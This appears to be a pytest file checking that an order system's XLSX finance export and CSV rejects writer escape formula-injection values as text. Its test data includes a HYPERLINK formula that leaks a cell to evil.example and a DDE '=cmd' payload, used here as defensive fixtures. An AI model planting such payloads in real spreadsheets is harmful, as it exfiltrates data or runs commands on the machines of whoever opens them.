"""OWASP's formula-injection rule in every spreadsheet we write: text starting with = + - @ tab
or CR is text, in both finance sheets and in the rejects CSVs."""

from __future__ import annotations

import csv
import zipfile
from datetime import date
from pathlib import Path

from openpyxl import load_workbook

from bot.cli.intake import write_rejects
from orders.app import App
from orders.finance.export import export_xlsx
from orders.intake.canonical import CanonOrder
from orders.intake.importer import Importer, ImportReport, Reject
from orders.sheets import FORMULA_START, SafeCsvWriter
from tests.factories import canon

EVIL_SHOP = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'


async def test_formula_text_in_both_finance_sheets_is_written_as_text(app: App, tmp_path: Path) -> None:
    o = canon("EVIL1", shop=EVIL_SHOP, note="+1")
    o["discounts"][0].update(source="=1+1", label="@SUM(A1:A9)", promotion_id="-2+3")
    o["discounts"][1].update(label="\t=cmd", source="\r=x")
    await Importer(app.db, app.clock, app.workflows, app.settings.tz).import_orders([CanonOrder.model_validate(o)])
    out = tmp_path / "fin.xlsx"
    await export_xlsx(app.db, app.settings.tz, date(2026, 1, 22), date(2026, 1, 22), out)
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 2 and not any("<f>" in x or "<f " in x for x in sheets)  # not one formula
    wb = load_workbook(out)
    orders = [r for r in wb["订单"].iter_rows() if r[2].value == "EVIL1"]
    assert orders[0][3].value == EVIL_SHOP and orders[0][3].data_type == "s"  # reads back unchanged, as text
    ledger = [r for r in wb["溯源明细"].iter_rows() if r[2].value == "EVIL1"]
    assert {ledger[0][6].value, ledger[0][5].value, ledger[0][7].value} == {"=1+1", "@SUM(A1:A9)", "-2+3"}
    risky = [c for ws in wb for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
    assert len(risky) >= 5 and all(c.data_type == "s" and c.quotePrefix for c in risky)
    assert all(isinstance(r[11].value, int) for r in ledger)  # numbers stay numbers


def test_rejects_csv_and_any_csv_writer_quote_formula_cells(tmp_path: Path) -> None:
    rep = ImportReport(rejects=[Reject(3, "=cmd|' /C calc'!A0", "bad"), Reject(4, "@x", "-1+1"),
                                Reject(5, "phone", "ok")])
    path = tmp_path / "rejects.csv"
    write_rejects(path, rep)
    rows = list(csv.reader(path.open(encoding="utf-8-sig")))
    assert rows[1] == ["3", "'=cmd|' /C calc'!A0", "bad"] and rows[2] == ["4", "'@x", "'-1+1"]
    assert rows[3] == ["5", "phone", "ok"]
    other = tmp_path / "o.csv"
    with other.open("w", newline="") as fh:
        SafeCsvWriter(fh).writerow(["\tx", "\ry", -5, "a=b"])
    assert next(csv.reader(other.open(newline=""))) == ["'\tx", "'\ry", "-5", "a=b"]
